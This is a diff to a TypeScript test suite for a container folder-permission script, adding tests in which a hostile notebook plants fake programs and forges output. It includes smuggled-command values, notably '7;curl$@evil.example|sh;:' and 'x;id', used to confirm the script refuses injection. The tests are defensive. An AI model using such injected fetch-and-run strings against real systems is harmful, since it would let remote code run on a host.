@@ -42,8 +42,12 @@ interface Pretended {
   timeout?: string;
   /** What its `id` says in the container, where that is not the truth. */
   inside?: string;
-  /** Further programs by name, and their text. */
+  /** Further programs of the host by name, and their text. */
   programs?: Record<string, string>;
+  /** The same, of the image. */
+  image?: Record<string, string>;
+  /** What is done before the container's shell starts, such as to lead PATH elsewhere. */
+  planted?: string;
   /** Who runs the script, and in that case the container as well; root by default. */
   uid?: number;
 }
@@ -63,7 +67,7 @@ async function prove(folders: string[], options: Pretended = {}) {
   const { before = uid === undefined ? `setpriv --reuid=${UID} --regid=${UID} --clear-groups` : "" } =
     options;
   const { security = "[name=seccomp,profile=default]", usernsMode = "" } = options;
-  const { type = "bind", volumes = [], timeout = "20", programs = {} } = options;
+  const { type = "bind", volumes = [], timeout = "20", programs = {}, image = {}, planted = "" } = options;
   const bin = pathWith(
     join(folder, `bin${++runs}`),
     "timeout setpriv unshare mount id grep dash bash busybox",
@@ -73,7 +77,8 @@ async function prove(folders: string[], options: Pretended = {}) {
   );
   const docker = [
     'case "$*" in',
-    `'exec -i container1 sh') ${inside ? `PATH=${bin}/inside:$PATH; ` : ""}exec ${before} ${shell} ;;`,
+    // Programs of the test's own stand in for some of the image's.
+    `'exec -i container1 /bin/sh') ${planted}sed 's|^PATH=|&${bin}/inside:|' | exec ${before} ${shell} ;;`,
     `*Mounts*) printf '${mounts.join("")}' ;;`,
     `*SecurityOptions*) echo '${security}' ;;`,
     `*UsernsMode*) echo '${usernsMode}' ;;`,
@@ -82,11 +87,10 @@ async function prove(folders: string[], options: Pretended = {}) {
     "*) exit 9 ;;",
     "esac",
   ].join("\n");
-  for (const [name, text] of Object.entries({ docker, ...programs })) {
-    pretend(bin, name, text);
-  }
+  for (const [name, text] of Object.entries({ docker, ...programs })) pretend(bin, name, text);
   mkdirSync(join(bin, "inside"));
-  pretend(join(bin, "inside"), "id", `echo ${inside}`);
+  const id = inside === undefined ? {} : { id: `echo '${inside}'` };
+  for (const [name, text] of Object.entries({ ...id, ...image })) pretend(join(bin, "inside"), name, text);
   const environment = {
     CONTAINER: "container1",
     FOLDERS: folders.join("\n"),
@@ -182,16 +186,16 @@ describe.skipIf(notRoot)("prove-folders.sh", () => {
     chownSync(path, 7, 7);
     const { stderr } = await prove([path], { type: "volume", uid: UID });
     expect(stderr).toContain(
-      `docker run --rm --user 0 --entrypoint chown -v home:${path} sha256:abc -R ${UID}:${UID} ${path}`,
+      `docker run --rm --user 0 --entrypoint chown -v 'home:${path}' 'sha256:abc' -R ${UID}:${UID} '${path}'`,
     );
   });
 
   it("tells of groups that notebooks are not given, and of SELinux, where the person may write", async () => {
     // The container may not.
     const rm = "echo 'rm: cannot remove: Permission denied' >&2; exit 1";
-    const as = { uid: UID, programs: { rm } };
+    const as = { uid: UID, image: { rm } };
     expect((await prove([newFolder()], as)).stderr).toContain("by a group that notebooks are not given");
-    const programs = { rm, getenforce: "echo Enforcing" };
+    const programs = { getenforce: "echo Enforcing" };
     expect((await prove([newFolder()], { ...as, programs })).stderr).toContain(
       "chcon -R -t container_file_t",
     );
@@ -220,10 +224,74 @@ describe.skipIf(notRoot)("prove-folders.sh", () => {
     expect(readdirSync(path)).toEqual([".gpubox-proof-folder"]);
     // As if it had been guessed.
     symlinkSync(victim, join(path, ".gpubox-proof-guessed"));
-    const run = await prove([path], { programs: { od: "echo guessed", rm: "exit 0" } });
+    const run = await prove([path], { programs: { od: "echo guessed" }, image: { rm: "exit 0" } });
     expect(run.code).toBe(1);
     expect(readFileSync(victim, "utf8")).toBe("mine");
     expect(existsSync(join(path, ".gpubox-proof-guessed"))).toBe(true);
+  });
+
+  describe("with a notebook that wants to be heard", () => {
+    /** Lines of ours, which a person may do as they say. */
+    const ours = (stderr: string) => stderr.split("\n").filter((line) => !line.startsWith("  "));
+    const EVIL = "7;curl$@evil.example|sh;:";
+
+    it("runs none of the programs that it put where the container's PATH leads", async () => {
+      const planted = newFolder("bin");
+      for (const name of ["sh", "rm", "ls", "id"])
+        pretend(planted, name, `echo "NO planted ${name}"; exit 1`);
+      const data = newFolder();
+      const run = await prove([data], { planted: `PATH='${planted}':$PATH; `, shell: "/bin/sh" });
+      expect(run).toEqual({ code: 0, stdout: `can write to ${data}\n`, stderr: "" });
+    });
+
+    it.each([
+      ["a claim", (path: string) => `NO ${path}\nIS drwx 1 0 0\nWHY x\nYES 1\nWHO 7 7`],
+      ["an id", () => `WHO ${EVIL} 0`],
+      ["a folder that nobody asked about", () => `NO /etc/${EVIL}\nIS d 1 ${EVIL}\nWHY ${EVIL}\nWHO 7 7`],
+      ["nothing", () => ""],
+    ])("believes no shell of its own that says %s, and shows it as not ours", async (_, says) => {
+      const path = newFolder();
+      const printed = says(path);
+      // It stands for the container's, as where root in a container is the notebook, and has not looked at what it was handed.
+      const run = await prove([path], { planted: `cat >/dev/null; printf '%s\n' '${printed}'; exit; ` });
+      expect(run).toMatchObject({ code: 1, stdout: "" });
+      expect(ours(run.stderr).join("\n")).not.toMatch(/evil|setfacl|chown|planted/);
+      if (printed) expect(run.stderr).toContain(`\n  ${printed.split("\n").at(-1)}\n`);
+    });
+
+    /** A shell of its own that reads the word it was handed. */
+    const knowing = (text: string) =>
+      `word=$(sed -n 's/^word=\\([^ ]*\\).*/\\1/p'); printf "${text}" | sed "s/^/$word /"; exit; `;
+
+    it.each([EVIL, `7 ${EVIL}`, "7:8", "7 8\\nWHO 9 9"])("makes no command of the id %s", async (who) => {
+      const path = newFolder();
+      const text = `IS 1 drwx 1 0 0\\nNO 1 Permission denied\\nWHO ${who.replaceAll("$", "\\$")}\\n`;
+      const run = await prove([path], { planted: knowing(text) });
+      expect(run.code).toBe(1);
+      expect(run.stderr).toContain("who it runs as is not to be learned there:\n  ");
+      expect(ours(run.stderr).join("\n")).not.toMatch(/evil|setfacl|chown|docker run/);
+    });
+
+    it("shows a reason and a mode of its own as not ours, and hears of no further folder", async () => {
+      const path = newFolder();
+      const evil = EVIL.replaceAll("$", "\\$");
+      const text = `IS 1 ${evil} 1 ${evil} 0\\nNO 1 ${evil}\\nNO 2 x\\nNO /etc x\\nWHO 7 7\\n`;
+      const run = await prove([path], { planted: knowing(text) });
+      expect(run.stderr).toContain(`cannot be written from container1:\n  ${EVIL}\n`);
+      expect(ours(run.stderr).join("\n")).not.toMatch(/evil|\/etc/);
+      expect(run.stderr).toContain(`sudo setfacl -R -m u:7:rwX -m d:u:7:rwX '${path}'`);
+    });
+
+    it("takes no folder for proven that is not vouched for", async () => {
+      const [code, data, models] = [newFolder(), newFolder("data"), newFolder("models")];
+      const run = await prove([code, data], {
+        volumes: [models],
+        planted: knowing("YES 1\\nYES 9\\nWHO 7 7\\n"),
+      });
+      expect(run.code).toBe(1);
+      expect(run.stderr).not.toContain(`whether ${code} `);
+      for (const path of [data, models]) expect(run.stderr).toContain(`whether ${path} can be written`);
+    });
   });
 
   it("waits for no disk for ever", async () => {
@@ -235,15 +303,21 @@ describe.skipIf(notRoot)("prove-folders.sh", () => {
   it("says where it cannot be tried, and fails where the container does not run", async () => {
     const path = newFolder();
     const without = await prove([path], {
-      programs: { docker: "echo 'exec: \"sh\": executable file not found in $PATH' >&2; exit 126" },
+      programs: { docker: "echo 'exec: \"/bin/sh\": stat /bin/sh: no such file or directory' >&2; exit 127" },
     });
     expect({ ...without, stderr: "" }).toEqual({ code: 0, stdout: "not tried\n", stderr: "" });
-    expect(without.stderr).toContain("the image has no shell");
+    expect(without.stderr).toContain("the image has no sh in /bin");
+    const toolless = "sed 's|^PATH=.*|PATH=/nonexistent|' | exec sh; exit;";
+    const tools = await prove([path], { planted: toolless });
+    expect(tools).toMatchObject({ code: 0, stdout: "not tried\n" });
+    expect(tools.stderr).toContain("the image has no rm in /bin");
     const gone = await prove([path], {
       programs: { docker: "printf 'No such container\\033[2J\\n' >&2; exit 1" },
     });
     expect(gone.code).toBe(1);
-    expect(gone.stderr).toContain("could not look into the container: No such container?[2J");
+    expect(gone.stderr).toMatch(
+      /could not look into the container; what came back:\n {2}No such container\?\[2J\n/,
+    );
     const environment = { CONTAINER: "container1", FOLDERS: path, TIMEOUT: "20" };
     const bare = await runScript("prove-folders.sh", environment, {
       path: pathWith(join(folder, "bare"), ""),
@@ -254,6 +328,7 @@ describe.skipIf(notRoot)("prove-folders.sh", () => {
 
   it.each([
     [{ CONTAINER: "-x" }, "container: '-x' is not a name"],
+    [{ CONTAINER: "x;id" }, "container: 'x;id' is not a name"],
     [{ FOLDERS: "code" }, "folders: 'code' are not absolute"],
     [{ TIMEOUT: "soon" }, "timeout: 'soon' is not a number"],
   ])("refuses %j", async (wrong, message) => {
